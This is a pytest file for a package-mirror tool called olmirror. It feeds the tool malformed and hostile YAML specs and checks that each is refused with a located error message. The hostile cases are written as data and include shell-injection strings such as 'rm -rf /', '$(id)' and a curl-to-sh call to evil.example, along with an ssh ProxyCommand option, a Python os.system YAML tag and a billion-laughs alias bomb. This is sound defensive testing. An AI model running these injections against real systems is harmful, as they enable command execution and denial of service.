"""A corpus of malformed and hostile specs: each is refused with one clear, located message.

Every case is run through `olmirror validate` and `olmirror plan` in this process, and a
few through `python -m olmirror` in a child process, and must

- exit 1, with nothing on standard output and no traceback anywhere;
- name the file, line and column of the fault (when the fault has a place), the field
  path, and the words of the message, including the fix it suggests;
- touch nothing: every path in a case points inside the test's own folder, HOME is an
  empty folder there too, and afterwards neither holds anything but the spec file.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from olmirror.cli import main

ROOT = "@ROOT@"  # replaced by the test's own folder, so every path in a case stays inside it

# Two lines that make a valid spec: `version` on line 1, `mirror` on line 2.
HEAD = (
    f"version: 1\n"
    f'mirror: {{directory: {ROOT}/mirror, targets: [{{python: "3.12", platform: any}}]}}\n'
)


def _big(size: int) -> Callable[[str], bytes]:
    """A well-formed YAML file of `size` bytes: a valid spec padded with a long comment."""

    def make(root: str) -> bytes:
        head = HEAD.replace(ROOT, root).encode()
        return head + b"# " + b"x" * (size - len(head) - 3) + b"\n"

    return make


def _alias_bomb(root: str) -> bytes:
    """Billion laughs: nine levels of nine aliases each, 9**9 strings once expanded."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 10):
        refs = ", ".join([f"*l{level - 1}"] * 9)
        lines.append(f"l{level}: &l{level} [{refs}]")
    return (HEAD.replace(ROOT, root) + "\n".join(lines) + "\n").encode()


@dataclass(frozen=True)
class Case:
    id: str
    content: str | bytes | Callable[[str], bytes] | None  # None: no file at all
    where: tuple[int, int] | None  # line and column of the reported fault; None: the whole file
    field: str | None  # the field path after the position; None when the fault has no field
    words: tuple[str, ...]  # in the same line of the message as the position and field


def _requirement_case(name: str, text: str) -> Case:
    """A worker requirement that is not a plain PEP 508 requirement from an index."""
    return Case(
        f"requirement-{name}",
        HEAD + f"workers:\n  - name: a\n    path: {ROOT}/w\n    requirements:\n      - {text}\n",
        (7, 9),
        "workers[0].requirements[0]",
        ("is not a PEP 508 requirement", "NAME[extras]SPECIFIER", "'requests>=2.31'"),
    )


def _serve_case(
    name: str,
    *,
    words: tuple[str, ...],
    listen: str = "'0.0.0.0:8080'",
    url: str = "http://10.0.0.5:8080",
) -> Case:
    """An http serve section whose listen address (line 7) or URL (line 8) is wrong."""
    field = "listen" if listen != "'0.0.0.0:8080'" else "url"
    return Case(
        f"serve-{name}",
        f"version: 1\nmirror:\n  directory: {ROOT}/mirror\n"
        "  targets: [{python: '3.12', platform: any}]\n"
        f"  serve:\n    backend: http\n    listen: {listen}\n    url: {url}\n",
        (7, 13) if field == "listen" else (8, 10),
        f"mirror.serve.{field}",
        words,
    )


CASES = [
    # --- unknown keys, each with the closest valid name suggested ---------------------------
    Case(
        "unknown-top-level-key-suggests-workers",
        HEAD + "worker:\n  - {name: a, path: @ROOT@/w}\n",
        (3, 1),
        "worker",
        ("unknown key 'worker'", "did you mean 'workers'?", "valid keys here: allowlist, hosts"),
    ),
    Case(
        "unknown-mirror-key-suggests-directory",
        "version: 1\nmirror:\n  directroy: @ROOT@/mirror\n"
        "  targets: [{python: '3.12', platform: any}]\n",
        (3, 3),
        "mirror.directroy",
        ("unknown key 'directroy'", "did you mean 'directory'?"),
    ),
    Case(
        "unknown-worker-key-suggests-requirements",
        HEAD + "workers:\n  - name: a\n    path: @ROOT@/w\n    requirments: [six]\n",
        (6, 5),
        "workers[0].requirments",
        ("unknown key 'requirments'", "did you mean 'requirements'?"),
    ),
    Case(
        "unknown-host-key-suggests-address",
        HEAD + "hosts:\n  w1: {adress: 10.0.0.5}\n",
        (4, 8),
        "hosts.w1.adress",
        ("unknown key 'adress'", "did you mean 'address'?"),
    ),
    Case(
        "unknown-key-without-close-match-lists-valid-keys",
        HEAD + "colour: blue\n",
        (3, 1),
        "colour",
        ("unknown key 'colour'", "remove it", "mirror, version, workers"),
    ),
    # --- missing fields ----------------------------------------------------------------------
    Case(
        "missing-version",
        "mirror: {directory: @ROOT@/mirror, targets: [{python: '3.12', platform: any}]}\n",
        (1, 1),
        "version",
        ("required key 'version' is missing", "add it at the top level", "'version: 1'"),
    ),
    Case(
        "missing-mirror",
        "version: 1\nworkers: []\n",
        (1, 1),
        "mirror",
        ("required key 'mirror' is missing", "add it at the top level"),
    ),
    Case(
        "missing-mirror-directory",
        "version: 1\nmirror:\n  targets: [{python: '3.12', platform: any}]\n",
        (3, 3),
        "mirror.directory",
        ("required key 'directory' is missing", "add it to mirror", "'directory: /srv/pypi'"),
    ),
    Case(
        "missing-target-platform",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n  targets:\n    - python: '3.12'\n",
        (5, 7),
        "mirror.targets[0].platform",
        ("required key 'platform' is missing", "add it to mirror.targets[0]", "manylinux_2_28"),
    ),
    Case(
        "missing-worker-path",
        HEAD + "workers:\n  - name: a\n",
        (4, 5),
        "workers[0].path",
        ("required key 'path' is missing", "add it to workers[0]", "ol worker init -p PATH"),
    ),
    Case(
        "empty-target-list",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n  targets: []\n",
        (4, 12),
        "mirror.targets",
        ("needs at least one target", 'python: "3.12"'),
    ),
    Case(
        "empty-mirror-section",
        "version: 1\nmirror:\nworkers: []\n",
        (2, 8),
        "mirror",
        ("expected a mapping of keys, got an empty value", "give it a value"),
    ),
    # --- wrong types -------------------------------------------------------------------------
    Case(
        "version-as-string",
        HEAD.replace("version: 1", 'version: "1"'),
        (1, 10),
        "version",
        ("version must be the number 1, got str '1'", "write 'version: 1'"),
    ),
    Case(
        "version-as-boolean",
        HEAD.replace("version: 1", "version: true"),
        (1, 10),
        "version",
        ("version must be the number 1, got bool True", "write 'version: 1'"),
    ),
    Case(
        "version-2",
        HEAD.replace("version: 1", "version: 2"),
        (1, 10),
        "version",
        ("2 is not a spec version this olmirror reads", "write 'version: 1'"),
    ),
    Case(
        "hosts-as-list",
        HEAD + "hosts: [worker-a, worker-b]\n",
        (3, 8),
        "hosts",
        ("expected a mapping of keys, got list", "hosts: {worker-a: {address: 10.0.0.11}}"),
    ),
    Case(
        "workers-as-mapping",
        HEAD + "workers: {name: a, path: @ROOT@/w}\n",
        (3, 10),
        "workers",
        ("expected a list, got dict", "one '- item' line per entry"),
    ),
    Case(
        "requirements-as-string",
        HEAD + "workers:\n  - {name: a, requirements: six==1.16.0, path: @ROOT@/w}\n",
        (4, 29),
        "workers[0].requirements",
        ("expected a list, got str 'six==1.16.0'", "like ['six==1.16.0']"),
    ),
    Case(
        "port-as-quoted-string",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5, port: '2222'}\n",
        (4, 33),
        "hosts.w1.port",
        ("expected a whole number, got str '2222'", "remove the quotes, like 2222"),
    ),
    Case(
        "port-out-of-range",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5, port: 70000}\n",
        (4, 33),
        "hosts.w1.port",
        ("70000 is not a port", "from 1 to 65535"),
    ),
    Case(
        "become-as-string",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5, become: 'sudo'}\n",
        (4, 35),
        "hosts.w1.become",
        ("expected true or false, got str 'sudo'", "without quotes"),
    ),
    Case(
        "python-version-as-bare-float",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n  targets:\n"
        "    - {python: 3.10, platform: any}\n",
        (5, 16),
        "mirror.targets[0].python",
        ("expected a string, got number 3.1", 'put it in quotes, like "3.10"', "bare 3.10"),
    ),
    Case(
        "python-version-not-major-minor",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n  targets:\n"
        "    - {python: python3.12, platform: any}\n",
        (5, 16),
        "mirror.targets[0].python",
        ("'python3.12' is not valid here", "MAJOR.MINOR", '"3.12"'),
    ),
    Case(
        "unknown-platform",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n  targets:\n"
        "    - {python: '3.12', platform: solaris_sparc}\n",
        (5, 34),
        "mirror.targets[0].platform",
        ("'solaris_sparc' is not valid here", "wheel platform tag", "manylinux_2_28_x86_64"),
    ),
    Case(
        "worker-state-typo",
        HEAD + "workers:\n  - {name: a, state: runing, path: @ROOT@/w}\n",
        (4, 22),
        "workers[0].state",
        ("'runing' is not allowed here", "did you mean 'running'?", "'running', 'stopped'"),
    ),
    Case(
        "worker-name-with-space",
        HEAD + "workers:\n  - {name: 'worker a', path: @ROOT@/w}\n",
        (4, 12),
        "workers[0].name",
        ("'worker a' is not valid here", "letters, digits", "'worker-a'"),
    ),
    Case(
        "host-name-with-shell-characters",
        HEAD + "hosts:\n  'w1;reboot': {address: 10.0.0.5}\n",
        (4, 3),
        "hosts['w1;reboot']",
        ("host name 'w1;reboot' is not valid here", "letters, digits"),
    ),
    Case(
        "host-name-read-as-number",
        HEAD + "hosts:\n  2024: {address: 10.0.0.5}\n",
        (4, 3),
        "hosts",
        ("the key '2024' is read by YAML as a number", "write it in quotes"),
    ),
    Case(
        "image-with-shell-characters",
        HEAD + "workers:\n  - {name: a, image: 'ol-min; rm -rf /', path: @ROOT@/w}\n",
        (4, 22),
        "workers[0].image",
        ("'ol-min; rm -rf /' is not valid here", "image name", "'ol-min'"),
    ),
    Case(
        "empty-worker-path",
        HEAD + "workers:\n  - {name: a, path: ''}\n",
        (4, 21),
        "workers[0].path",
        ("a path must be non-empty",),
    ),
    Case(
        "worker-path-with-nul-byte",
        HEAD + 'workers:\n  - {name: a, path: "@ROOT@/w\\0x"}\n',
        (4, 21),
        "workers[0].path",
        ("must not contain NUL bytes",),
    ),
    # --- YAML syntax -------------------------------------------------------------------------
    Case(
        "yaml-unclosed-brace",
        "version: 1\nmirror: {directory: @ROOT@/mirror, targets: []\nworkers: []\n",
        (3, 1),
        None,
        (
            "YAML syntax error",
            "flow mapping that starts at line 2, column 9",
            "add the matching '}'",
        ),
    ),
    Case(
        "yaml-unclosed-bracket",
        HEAD + "workers: [{name: a, path: @ROOT@/w}\n",
        (4, 1),
        None,
        ("YAML syntax error", "line 3, column 10", "add the matching ']'"),
    ),
    Case(
        "yaml-bad-indentation",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n   targets: []\n",
        (4, 11),
        None,
        ("YAML syntax error", "mapping values are not allowed here", "own indented line"),
    ),
    Case(
        "yaml-outdented-key",
        "version: 1\nmirror:\n    directory: @ROOT@/mirror\n  targets: []\n",
        (4, 3),
        None,
        ("YAML syntax error", "indented differently", "same column"),
    ),
    Case(
        "yaml-value-on-key-line",
        "version: 1\nmirror: directory: @ROOT@/mirror\n",
        (2, 18),
        None,
        ("YAML syntax error", "mapping values are not allowed here", "quote a value"),
    ),
    Case(
        "yaml-unclosed-quote",
        "version: 1\nmirror: {directory: '@ROOT@/mirror, targets: []}\n",
        (3, 1),
        None,
        ("YAML syntax error", "found unexpected end of stream", "add the closing quote"),
    ),
    Case(
        "yaml-undefined-alias",
        HEAD + "workers: *workers\n",
        (3, 10),
        None,
        ("YAML syntax error", "found undefined alias 'workers'", "define the anchor"),
    ),
    Case(
        "yaml-unknown-escape-in-double-quotes",
        HEAD + 'workers:\n  - {name: a, path: "\\q@ROOT@"}\n',
        (4, 23),
        None,
        ("found unknown escape character 'q'", "starts at line 4, column 21", "single quotes"),
    ),
    Case(
        "yaml-key-without-colon",
        HEAD + "workers:\n  - name: a\n    path\n    image: ol-min\n",
        (6, 5),
        None,
        ("could not find expected ':'", "line 5, column 5", "a key is missing its ':'"),
    ),
    Case(
        "yaml-list-item-key-outdented",
        HEAD + "workers:\n  - name: a\n  path: @ROOT@/w\n",
        (5, 3),
        None,
        ("block collection that starts at line 4, column 3", "indented differently"),
    ),
    Case(
        "tab-indentation",
        "version: 1\nmirror:\n\tdirectory: @ROOT@/mirror\n",
        (3, 1),
        None,
        ("YAML syntax error", "'\\t'", "YAML does not allow tabs", "indent with spaces"),
    ),
    Case(
        "tab-before-top-level-key",
        HEAD + "\tworkers: []\n",
        (3, 1),
        None,
        ("YAML syntax error", "indent with spaces"),
    ),
    # --- duplicate keys, which PyYAML would silently collapse ------------------------------
    Case(
        "duplicate-top-level-key",
        HEAD + "version: 1\n",
        (3, 1),
        "version",
        ("duplicate key 'version' (first at line 1)", "remove or rename one of them"),
    ),
    Case(
        "duplicate-host",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5}\n  w1: {address: 10.0.0.6}\n",
        (5, 3),
        "hosts.w1",
        ("duplicate key 'w1' (first at line 4)", "remove or rename one of them"),
    ),
    Case(
        "duplicate-key-inside-flow-mapping",
        HEAD + "workers:\n  - {name: a, name: b, path: @ROOT@/w}\n",
        (4, 15),
        "workers[0].name",
        ("duplicate key 'name' (first at line 4)",),
    ),
    # --- worker targets ---------------------------------------------------------------------
    Case(
        "worker-target-missing-with-two-targets",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n  targets:\n"
        "    - {python: '3.12', platform: any}\n    - {python: '3.10', platform: win_amd64}\n"
        "workers:\n  - {name: a, path: @ROOT@/w}\n",
        (8, 5),
        "workers[0]",
        ("the mirror has 2 targets", "needs a 'target'", "{python: '3.10', platform: win_amd64}"),
    ),
    Case(
        "worker-target-not-a-mirror-target",
        HEAD + "workers:\n  - {name: a, target: {python: '3.11', platform: any}, path: @ROOT@/w}\n",
        (4, 23),
        "workers[0].target",
        ("is not one of mirror.targets", "{python: '3.12', platform: any}", "add it there"),
    ),
    # --- hosts ------------------------------------------------------------------------------
    Case(
        "undefined-worker-host",
        HEAD + "hosts:\n  worker-a: {address: 10.0.0.11}\n"
        "workers:\n  - {name: a, host: worker-c, path: @ROOT@/w}\n",
        (6, 21),
        "workers[0].host",
        ("'worker-c' is not a defined host (defined: local, worker-a)", "add it under 'hosts'"),
    ),
    Case(
        "undefined-mirror-host",
        "version: 1\nmirror:\n  host: mirror1\n  directory: @ROOT@/mirror\n"
        "  targets: [{python: '3.12', platform: any}]\n",
        (3, 9),
        "mirror.host",
        ("'mirror1' is not a defined host (defined: local)", "add it under 'hosts'"),
    ),
    Case(
        "local-host-with-address",
        HEAD + "hosts:\n  local: {address: 10.0.0.5}\n",
        (4, 20),
        "hosts.local.address",
        ("the 'local' host is this machine and takes no address", "another name"),
    ),
    Case(
        "remote-host-without-address",
        HEAD + "hosts:\n  w1: {user: ol}\n",
        (4, 7),
        "hosts.w1",
        ("host 'w1' needs an 'address' or an 'ssh_alias'",),
    ),
    Case(
        "host-address-is-an-ssh-option",
        HEAD + "hosts:\n  w1: {address: '-oProxyCommand=touch @ROOT@/pwned'}\n",
        (4, 17),
        "hosts.w1.address",
        ("is not an IP address or host name", "'10.0.0.5'"),
    ),
    Case(
        "host-address-with-user-and-port",
        HEAD + "hosts:\n  w1: {address: 'ol@10.0.0.5:22'}\n",
        (4, 17),
        "hosts.w1.address",
        ("is not an IP address or host name", "a port goes in 'port', a user in 'user'"),
    ),
    Case(
        "host-user-with-shell-characters",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5, user: 'ol; id'}\n",
        (4, 33),
        "hosts.w1.user",
        ("'ol; id' is not a login name", "for example 'ol'"),
    ),
    Case(
        "ssh-alias-is-an-option",
        HEAD + "hosts:\n  w1: {ssh_alias: '-F @ROOT@/evil_config'}\n",
        (4, 19),
        "hosts.w1.ssh_alias",
        ("is not a Host entry name of ~/.ssh/config", "not starting with '-'"),
    ),
    Case(
        "become-password-given-instead-of-variable",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5, become: true, become_password_env: 'hunter2!'}\n",
        (4, 62),
        "hosts.w1.become_password_env",
        ("'hunter2!' is not an environment variable name", "never the password"),
    ),
    Case(
        "become-password-env-without-become",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5, become_password_env: SUDO_PASS}\n",
        (4, 48),
        "hosts.w1.become_password_env",
        ("only used with 'become: true'", "set both or remove it"),
    ),
    # --- paths --------------------------------------------------------------------------------
    Case(
        "relative-remote-worker-path",
        HEAD
        + "hosts:\n  w1: {address: 10.0.0.5}\nworkers:\n  - {name: a, host: w1, path: opt/ol}\n",
        (6, 31),
        "workers[0].path",
        (
            "path 'opt/ol' on remote host 'w1' must be an absolute path",
            "only resolved for the local",
        ),
    ),
    Case(
        "home-relative-remote-worker-path",
        HEAD + "hosts:\n  w1: {address: 10.0.0.5}\nworkers:\n  - {name: a, host: w1, path: ~/ol}\n",
        (6, 31),
        "workers[0].path",
        ("path '~/ol' on remote host 'w1' must be an absolute path",),
    ),
    Case(
        "relative-remote-mirror-directory",
        "version: 1\nhosts:\n  m1: {address: 10.0.0.5}\nmirror:\n  host: m1\n"
        "  directory: srv/pypi\n  targets: [{python: '3.12', platform: any}]\n",
        (6, 14),
        "mirror.directory",
        ("mirror directory 'srv/pypi' on remote host 'm1' must be an absolute path",),
    ),
    Case(
        "worker-path-duplicated",
        HEAD + "workers:\n  - {name: a, path: @ROOT@/w}\n  - {name: b, path: @ROOT@/w/./}\n",
        (5, 21),
        "workers[1].path",
        ("is the same folder as workers[0].path", "on host 'local'", "its own path"),
    ),
    Case(
        "worker-name-duplicated",
        HEAD + "workers:\n  - {name: a, path: @ROOT@/w1}\n  - {name: a, path: @ROOT@/w2}\n",
        (5, 12),
        "workers[1].name",
        ("worker name 'a' is already used by workers[0]", "its own name"),
    ),
    Case(
        "target-duplicated",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n  targets:\n"
        "    - {python: '3.12', platform: any}\n    - {python: '3.12', platform: any}\n",
        (6, 7),
        "mirror.targets[1]",
        ("same target as targets[0]", "remove one"),
    ),
    # --- requirements ------------------------------------------------------------------------
    *(
        _requirement_case(name, text)
        for name, text in [
            ("shell-semicolon", "'requests; rm -rf /'"),
            ("command-substitution", "'$(id)'"),
            ("backticks", "'`id`'"),
            ("pipe-to-shell", "'six | sh'"),
            ("and-then", "'six && curl http://evil.example | sh'"),
            ("pip-option", "'six --index-url http://evil.example/simple'"),
            ("requirements-file-option", "'-r /etc/passwd'"),
            ("editable", "'-e .'"),
            ("embedded-newline", '"six\\nrm -rf /"'),
            ("empty-version", "'six=='"),
        ]
    ),
    Case(
        "requirement-url",
        HEAD + "workers:\n  - name: a\n    path: @ROOT@/w\n"
        "    requirements: ['pkg @ https://evil.example/pkg-1.0-py3-none-any.whl']\n",
        (6, 20),
        "workers[0].requirements[0]",
        ("names a URL", "a mirror can only hold packages from its index", "name and version"),
    ),
    Case(
        "allowlist-package-with-shell-characters",
        HEAD + "allowlist:\n  packages: ['numpy==1.26.4; curl evil.example | sh']\n",
        (4, 14),
        "allowlist.packages[0]",
        ("is not a PEP 508 requirement", "NAME[extras]SPECIFIER"),
    ),
    Case(
        "block-entry-not-a-package-name",
        HEAD + "allowlist:\n  block: ['evil;rm']\n",
        (4, 11),
        "allowlist.block[0]",
        ("'evil;rm' is not a valid package name",),
    ),
    Case(
        "blocked-package-requested-by-worker",
        HEAD + "allowlist:\n  block: [Evil_Package]\n"
        "workers:\n  - name: a\n    path: @ROOT@/w\n    requirements: [six, evil-package==1.0]\n",
        (8, 25),
        "workers[0].requirements[1]",
        ("'evil-package==1.0' is in allowlist.block", "remove it or unblock it"),
    ),
    Case(
        "blocked-package-also-allowed",
        HEAD + "allowlist:\n  packages: [six==1.16.0]\n  block: [six]\n",
        (4, 14),
        "allowlist.packages[0]",
        ("'six==1.16.0' is also in allowlist.block", "remove it from one of the two"),
    ),
    # --- serving: listen addresses and URLs ---------------------------------------------------
    _serve_case(
        "url-with-a-line-break",
        url='"http://10.0.0.5:8080/\\nextra-index-url = https://elsewhere/"',
        words=("holds a space or a control character", "pip.conf"),
    ),
    _serve_case(
        "listen-without-port",
        listen="'0.0.0.0'",
        words=("'0.0.0.0' is not HOST:PORT", "'0.0.0.0:8080'"),
    ),
    _serve_case(
        "listen-port-out-of-range",
        listen="'0.0.0.0:99999'",
        words=("port 99999 is out of range", "from 1 to 65535"),
    ),
    _serve_case(
        "listen-host-with-space",
        listen="'my host:80'",
        words=("'my host' is not an IP address or host name", "'[::]:8080'"),
    ),
    _serve_case(
        "listen-ipv6-without-brackets",
        listen="'::1:8080'",
        words=("put an IPv6 address in brackets", "'[::1]:8080'"),
    ),
    _serve_case(
        "url-not-http",
        url="ftp://10.0.0.5/pypi",
        words=("is not an http(s) URL", "'http://10.0.0.5:8080'"),
    ),
    _serve_case("url-without-scheme", url="10.0.0.5:8080", words=("is not an http(s) URL",)),
    _serve_case(
        "url-with-password",
        url="'http://ol:secret@10.0.0.5:8080'",
        words=("carries a user name or password", "without them"),
    ),
    _serve_case(
        "url-bad-port",
        url="'http://10.0.0.5:80a'",
        words=("has an invalid port", "from 1 to 65535"),
    ),
    _serve_case(
        "url-ends-in-simple",
        url="http://10.0.0.5:8080/simple/",
        words=("ends in /simple", "give the mirror's base URL", "workers add /simple/"),
    ),
    Case(
        "http-backend-without-url",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n"
        "  targets: [{python: '3.12', platform: any}]\n"
        "  serve: {backend: http, listen: '0.0.0.0:8080'}\n",
        (5, 10),
        "mirror.serve",
        ("backend 'http' needs 'url'", "url: 'http://10.0.0.5:8080'"),
    ),
    Case(
        "filesystem-backend-with-listen",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n"
        "  targets: [{python: '3.12', platform: any}]\n"
        "  serve: {backend: filesystem, listen: '0.0.0.0:8080'}\n",
        (5, 40),
        "mirror.serve.listen",
        ("'listen' is only used with backend 'http'", "set backend: http"),
    ),
    Case(
        "upstream-with-query",
        "version: 1\nmirror:\n  directory: @ROOT@/mirror\n"
        "  upstream: 'https://pypi.example/simple?token=x'\n"
        "  targets: [{python: '3.12', platform: any}]\n",
        (4, 13),
        "mirror.upstream",
        ("must not carry a query or fragment", "remove everything from '?'"),
    ),
    # --- YAML features a spec has no use for -------------------------------------------------
    Case(
        "python-object-tag",
        HEAD.replace("version: 1", "version: !!python/object/apply:os.system ['touch @ROOT@/x']"),
        (1, 10),
        "version",
        ("the YAML tag '!!python/object/apply:os.system' is not allowed", "plain value"),
    ),
    Case(
        "binary-tag",
        HEAD + "workers:\n  - {name: a, path: !!binary aGVsbG8=}\n",
        (4, 21),
        "workers[0].path",
        ("the YAML tag '!!binary' is not allowed",),
    ),
    Case(
        "custom-tag-on-key",
        HEAD + "!env workers: []\n",
        (3, 1),
        "top level",
        ("the YAML tag '!env' is not allowed",),
    ),
    Case(
        "merge-of-a-scalar",
        HEAD + "workers:\n  - {<<: 5, name: a, path: @ROOT@/w}\n",
        (4, 10),
        "workers[0]",
        ("a '<<' merge takes a mapping or a list of mappings", "'<<: *defaults'"),
    ),
    Case(
        "duplicate-key-beside-a-merge",
        HEAD + "workers:\n  - &a {name: a, path: @ROOT@/w1}\n"
        "  - {<<: *a, name: b, name: c, path: @ROOT@/w2}\n",
        (5, 23),
        "workers[1].name",
        ("duplicate key 'name' (first at line 5)",),
    ),
    Case(
        "non-scalar-key",
        HEAD + "? [a, b]\n: c\n",
        (3, 3),
        "top level",
        ("a key must be a plain name, not a list",),
    ),
    Case(
        "mapping-as-key",
        HEAD + "workers:\n  - {name: a, {x: 1}: y, path: @ROOT@/w}\n",
        (4, 15),
        "workers[0]",
        ("a key must be a plain name, not a mapping",),
    ),
    Case(
        "alias-bomb",
        _alias_bomb,
        (8, 1),
        "l5",
        ("expands to more than 100000 values", "without '*' aliases"),
    ),
    Case(
        "alias-inside-itself",
        HEAD + "workers: &w [*w]\n",
        (3, 10),
        "workers[0]",
        ("this alias refers to a value that contains it", "write the value out"),
    ),
    Case(
        "deep-nesting",
        HEAD + "workers: " + "[" * 5000 + "]" * 5000 + "\n",
        (3, 41),
        None,
        ("nests more than 32 levels deep", "check the brackets and indentation"),
    ),
    # --- the file as a whole ------------------------------------------------------------------
    Case("empty-file", "", None, None, ("the spec is empty", "'version: 1'", "quickstart.yaml")),
    Case(
        "only-comments",
        "# an olmirror spec\n# version: 1\n\n",
        None,
        None,
        ("the spec is empty", "start from playbooks/quickstart.yaml"),
    ),
    Case(
        "top-level-list",
        "- version: 1\n- mirror: {}\n",
        (1, 1),
        None,
        ("the spec must be a mapping of keys", "not a list"),
    ),
    Case(
        "top-level-string",
        "olmirror\n",
        (1, 1),
        None,
        ("the spec must be a mapping of keys", "not a str"),
    ),
    Case(
        "multiple-documents",
        HEAD + "---\n" + HEAD,
        (4, 1),
        None,
        ("a spec is one YAML document", "remove the second '---'"),
    ),
    Case(
        "binary-file",
        b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00",
        None,
        None,
        ("this is a binary file, not a YAML spec", "check the -f argument"),
    ),
    Case(
        "non-utf8-file",
        b"version: 1\n# caf\xe9 au lait\n",
        (2, 6),
        None,
        ("the file is not UTF-8 text (byte 0xe9)", "save it as UTF-8"),
    ),
    Case(
        "utf16-file",
        "version: 1\n".encode("utf-16"),
        None,
        None,
        ("the file is UTF-16 text", "save it as UTF-8"),
    ),
    Case(
        "ten-megabyte-file",
        _big(10 * 1024 * 1024),
        None,
        None,
        ("the file is 10.5 MB", "a spec is at most 1 MiB", "not a data file"),
    ),
    Case(
        "no-such-file",
        None,
        None,
        None,
        ("no such file", "pass the spec with -f FILE"),
    ),
]

# Cases also run as `python -m olmirror` in a child process: one of each kind of failure.
SUBPROCESS_IDS = [
    "unknown-top-level-key-suggests-workers",
    "yaml-unclosed-brace",
    "deep-nesting",
    "alias-bomb",
    "binary-file",
    "non-utf8-file",
    "ten-megabyte-file",
    "requirement-command-substitution",
    "python-object-tag",
]


@dataclass
class Run:
    code: int
    out: str
    err: str


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The test's folder as cwd, with an empty HOME inside it, so `~` lands there too."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _write(case: Case, folder: Path) -> Path:
    spec = folder / "spec.yaml"
    root = str(folder)
    content = case.content
    if content is None:
        return spec
    if callable(content):
        spec.write_bytes(content(root))
    elif isinstance(content, bytes):
        spec.write_bytes(content)
    else:
        spec.write_bytes(content.replace(ROOT, root).encode())
    return spec


def _run_in_process(capsys: pytest.CaptureFixture[str], *args: str) -> Run:
    capsys.readouterr()
    code = main(list(args))
    captured = capsys.readouterr()
    return Run(code, captured.out, captured.err)


def _run_child(folder: Path, *args: str) -> Run:
    env = {**os.environ, "HOME": str(folder / "home"), "NO_COLOR": "1"}
    done = subprocess.run(
        [sys.executable, "-m", "olmirror", *args],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return Run(done.returncode, done.stdout, done.stderr)


def _expected_prefix(case: Case, spec: Path) -> str:
    prefix = str(spec)
    if case.where is not None:
        prefix += f":{case.where[0]}:{case.where[1]}"
    prefix += ": "
    if case.field is not None:
        prefix += f"{case.field}: "
    return prefix


def _check_report(case: Case, spec: Path, run: Run) -> None:
    assert run.code == 1, run
    assert run.out == "", run.out
    assert "Traceback" not in run.err + run.out
    assert run.err.startswith("error: "), run.err
    lines = run.err.removeprefix("error: ").rstrip("\n").split("\n")
    # One problem a line, each located in the file, no blank lines, nothing else.
    for line in lines:
        assert line.startswith(str(spec)) or re.fullmatch(r"\.\.\. and \d+ more problems", line)
    prefix = _expected_prefix(case, spec)
    matching = [line for line in lines if line.startswith(prefix)]
    assert matching, f"no line starts with {prefix!r}:\n{run.err}"
    line = matching[0]
    for words in case.words:
        assert words in line, f"{words!r} not in {line!r}"
    if case.field is None and case.where is not None and "YAML syntax error" not in line:
        # A fault of the whole document: its message follows the position directly.
        assert not re.match(r"[\w.\[\]']+: ", line.removeprefix(prefix))


def _check_untouched(folder: Path, spec: Path) -> None:
    """Nothing but the spec file (and the empty HOME) exists in the test's folder."""
    present = {p.name for p in folder.iterdir()}
    expected = {"home", spec.name} if spec.exists() else {"home"}
    assert present == expected
    assert list((folder / "home").iterdir()) == []
    for name in ("mirror", "w", "w1", "w2", "pwned", "x"):
        assert not (folder / name).exists()


def test_corpus_is_large_and_ids_are_unique() -> None:
    ids = [case.id for case in CASES]
    assert len(ids) >= 30
    assert len(ids) == len(set(ids))
    assert set(SUBPROCESS_IDS) <= set(ids)


def test_the_spec_the_cases_start_from_is_valid(sandbox: Path) -> None:
    """HEAD is valid, so each case fails for the fault it adds and not another one."""
    spec = sandbox / "spec.yaml"
    spec.write_text(HEAD.replace(ROOT, str(sandbox)))
    assert main(["validate", "-f", str(spec)]) == 0


@pytest.mark.parametrize("command", ["validate", "plan"])
@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_bad_spec_is_refused(
    case: Case, command: str, sandbox: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = _write(case, sandbox)
    run = _run_in_process(capsys, command, "-f", str(spec))
    _check_report(case, spec, run)
    _check_untouched(sandbox, spec)


@pytest.mark.parametrize("command", ["validate", "plan"])
@pytest.mark.parametrize("case_id", SUBPROCESS_IDS)
def test_bad_spec_is_refused_by_the_program(case_id: str, command: str, sandbox: Path) -> None:
    case = next(c for c in CASES if c.id == case_id)
    spec = _write(case, sandbox)
    run = _run_child(sandbox, command, "-f", str(spec))
    _check_report(case, spec, run)
    _check_untouched(sandbox, spec)


def test_apply_refuses_a_bad_spec_without_touching_anything(
    sandbox: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case = next(c for c in CASES if c.id == "worker-path-duplicated")
    spec = _write(case, sandbox)
    run = _run_in_process(capsys, "apply", "--yes", "-f", str(spec))
    _check_report(case, spec, run)
    _check_untouched(sandbox, spec)


def test_a_directory_is_not_a_spec(sandbox: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = _run_in_process(capsys, "validate", "-f", str(sandbox / "home"))
    assert run.code == 1
    assert (
        run.err
